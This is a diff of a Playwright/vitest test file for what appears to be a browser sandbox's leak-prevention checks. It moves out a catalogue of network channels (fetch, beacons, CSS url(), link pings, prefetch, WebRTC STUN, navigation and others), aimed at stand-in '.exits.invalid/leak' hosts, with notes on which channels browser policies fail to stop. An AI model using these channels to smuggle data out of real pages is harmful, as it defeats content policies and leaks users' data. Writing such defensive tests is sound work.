@@ -6,110 +6,10 @@ import {join} from 'node:path';
 import {type BrowserContext, chromium, type Page, type Worker} from 'playwright-core';
 import {afterAll, beforeAll, describe, expect, test} from 'vitest';
 import {chromiumPath, project, quiet, type Site, serve} from './browser.ts';
+import {connects, notStopped, stopped, stoppedInPage, type Ways} from './ways.ts';
 
 /** Stand in memory and symbols of what is opened, and in nothing that leaves. */
 const canaries = ['canary-in-a-dump-7f3a', 'canary_in_symbols_91c2'];
-
-type Way = (url: string) => unknown;
-
-/** Each gets an address of its own, which the log would show. */
-const stopped: Readonly<Record<string, Way>> = {
-  fetch: url => fetch(url).catch(() => {}),
-  'fetch, kept alive': url => fetch(url, {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}).catch(() => {}),
-  XMLHttpRequest: url => {
-    const request = new XMLHttpRequest();
-    request.open('POST', url);
-    request.send('x');
-  },
-  WebSocket: url => new WebSocket(url.replace('http', 'ws')),
-  EventSource: url => new EventSource(url),
-  WebTransport: url => Reflect.construct(Reflect.get(globalThis, 'WebTransport'), [url.replace('http:', 'https:')]),
-};
-
-const stoppedInPage: Readonly<Record<string, Way>> = {
-  sendBeacon: url => navigator.sendBeacon(url, 'x'),
-  image: url => {
-    new Image().src = url;
-  },
-  font: url => void new FontFace('f', `url(${url})`).load().catch(() => {}),
-  'a style with url()': url => {
-    document.body.style.backgroundImage = `url(${url})`;
-  },
-  'a style sheet': url => {
-    const sheet = new CSSStyleSheet();
-    sheet.replaceSync(`body { background-image: url(${url}); cursor: url(${url}), auto }`);
-    document.adoptedStyleSheets = [sheet];
-  },
-  'a link that pings': url => {
-    const link = document.createElement('a');
-    link.href = '#main';
-    link.ping = url;
-    document.body.append(link);
-    link.click();
-  },
-  prefetch: url => {
-    const link = document.createElement('link');
-    link.rel = 'prefetch';
-    link.href = url;
-    document.head.append(link);
-  },
-  icon: url => {
-    const link = document.createElement('link');
-    link.rel = 'icon';
-    link.href = url;
-    document.head.append(link);
-  },
-  'speculation rules': url => {
-    const script = document.createElement('script');
-    script.type = 'speculationrules';
-    script.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [url]}]});
-    document.head.append(script);
-  },
-  video: url => {
-    document.createElement('video').src = url;
-  },
-  'a service worker': url => navigator.serviceWorker.register(url).catch(() => {}),
-};
-
-/** No request is made, but Chromium connects to the host before it looks at the policy. */
-const connects: Readonly<Record<string, Way>> = {
-  form: url => {
-    const form = document.createElement('form');
-    form.action = url;
-    document.body.append(form);
-    form.submit();
-  },
-  iframe: url => {
-    const frame = document.createElement('iframe');
-    frame.src = url;
-    document.body.append(frame);
-  },
-};
-
-/** No policy of today's browsers has a word for these. */
-const notStopped: Readonly<Record<string, Way>> = {
-  'window.open': url => window.open(url),
-  'dns-prefetch': url => {
-    const link = document.createElement('link');
-    link.rel = 'dns-prefetch';
-    link.href = url;
-    document.head.append(link);
-  },
-  preconnect: url => {
-    const link = document.createElement('link');
-    link.rel = 'preconnect';
-    link.href = url;
-    document.head.append(link);
-  },
-  WebRTC: async url => {
-    const call = new RTCPeerConnection({iceServers: [{urls: `stun:${new URL(url).hostname}:3478`}]});
-    call.createDataChannel('x');
-    await call.setLocalDescription(await call.createOffer());
-  },
-  navigation: url => {
-    location.href = url;
-  },
-};
 
 let site: Site;
 let folder: string;
@@ -122,7 +22,7 @@ let shown = '';
 const hostOf = (name: string, from: string): string =>
   `way-${name.replace(/[^a-z]/gi, '')}-${from}.exits.invalid`.toLowerCase();
 
-async function attempt(target: Page | Worker, from: string, ways: Readonly<Record<string, Way>>): Promise<void> {
+async function attempt(target: Page | Worker, from: string, ways: Ways): Promise<void> {
   for (const [name, way] of Object.entries(ways)) {
     const url = `http://${hostOf(name, from)}:${new URL(site.url).port}/leak`;
     await (target as Page).evaluate(`(async () => { try { await (${way})(${JSON.stringify(url)}) } catch {} })()`);
